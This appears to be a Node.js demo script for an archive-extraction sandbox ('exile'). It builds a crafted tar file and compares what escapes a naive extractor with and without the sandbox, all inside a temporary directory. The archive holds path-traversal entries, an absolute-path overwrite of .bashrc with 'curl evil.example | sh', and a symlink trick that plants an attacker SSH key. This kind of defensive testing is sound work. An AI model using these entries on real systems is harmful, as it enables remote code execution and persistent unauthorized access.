import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { pack } from './tar.mjs';

const child = fileURLToPath(new URL('./extract-child.mjs', import.meta.url));
const ORIGINAL_BASHRC = '# the victim\'s own .bashrc\n';

/** Builds one run's sandbox-free playground: a target dir, a "home" outside it, the crafted archive. */
function stage(root) {
  const out = join(root, 'box', 'out');
  const home = join(root, 'home');
  mkdirSync(out, { recursive: true });
  mkdirSync(home, { recursive: true });
  writeFileSync(join(home, '.bashrc'), ORIGINAL_BASHRC);
  const entries = [
    { name: 'hello.txt', content: 'hello from the archive\n' },
    { name: 'docs/readme.md', content: '# docs\n' },
    { name: '../../escaped.txt', content: 'I climbed out with ../\n' },
    { name: join(home, '.bashrc'), content: 'curl evil.example | sh\n' },
    { name: 'link', linkname: '../../home' },
    { name: 'link/authorized_keys', content: 'ssh-ed25519 AAAA attacker\n' },
  ];
  const archive = join(root, 'evil.tar');
  writeFileSync(archive, pack(entries));
  return { root, out, home, archive, entries };
}

/** What really happened on disk for each entry (the child's own claims are not trusted). */
function inspect({ root, out, home }) {
  const rel = (p) => relative(root, p);
  const file = (p) => existsSync(p);
  const isLink = (p) => { try { return lstatSync(p).isSymbolicLink(); } catch { return false; } };
  return [
    { entry: 'hello.txt', escaped: false, landed: file(join(out, 'hello.txt')) },
    { entry: 'docs/readme.md', escaped: false, landed: file(join(out, 'docs/readme.md')) },
    { entry: '../../escaped.txt', escaped: file(join(root, 'escaped.txt')), where: rel(join(root, 'escaped.txt')) },
    { entry: '<abs>/home/.bashrc', escaped: readFileSync(join(home, '.bashrc'), 'utf8') !== ORIGINAL_BASHRC, where: rel(join(home, '.bashrc')) },
    { entry: 'link -> ../../home', escaped: false, landed: isLink(join(out, 'link')) },
    { entry: 'link/authorized_keys', escaped: file(join(home, 'authorized_keys')), where: rel(join(home, 'authorized_keys')) },
  ];
}

function run(stageInfo, sandboxed) {
  const r = spawnSync(process.execPath, [child, stageInfo.archive, stageInfo.out, ...(sandboxed ? ['--exile'] : [])], { encoding: 'utf8' });
  const line = r.stdout.trim().split('\n').pop();
  if (r.status !== 0 || !line) return { error: `extractor exited ${r.status ?? r.signal}: ${r.stderr.trim()}`, disk: inspect(stageInfo) };
  const { results, report } = JSON.parse(line);
  return { results, report, disk: inspect(stageInfo) };
}

/** Runs the naive extractor twice on the crafted archive — plain, then under exile — in a fresh temp area. */
export function runDemo(area = mkdtempSync(join(tmpdir(), 'exile-demo-'))) {
  const plain = run(stage(join(area, 'plain')), false);
  const sandboxed = run(stage(join(area, 'exile')), true);
  return { area, plain, sandboxed };
}

function cell(row, results) {
  const outcome = results?.find((r) => r.name === row.entry || (row.entry.startsWith('<abs>') && r.name.endsWith('/home/.bashrc')) || (row.entry.startsWith('link ->') && r.name === 'link'))?.outcome;
  if (row.escaped) return `ESCAPED -> ${row.where}`;
  if (row.landed) return row.entry.startsWith('link') ? 'symlink created (harmless)' : 'extracted';
  return row.where === undefined ? `missing (${outcome ?? '?'})` : `blocked (${outcome ?? '?'})`;
}

/** The side-by-side table. */
export function table({ plain, sandboxed }) {
  const rows = plain.disk.map((row, i) => [row.entry, cell(row, plain.results), cell(sandboxed.disk[i], sandboxed.results)]);
  const all = [['archive entry', 'unsandboxed', 'under exile'], ...rows];
  const widths = [0, 1, 2].map((c) => Math.max(...all.map((r) => r[c].length)));
  const line = (r) => r.map((v, c) => v.padEnd(widths[c])).join('  ').trimEnd();
  return [line(all[0]), widths.map((w) => '-'.repeat(w)).join('  '), ...rows.map(line)].join('\n') + '\n';
}
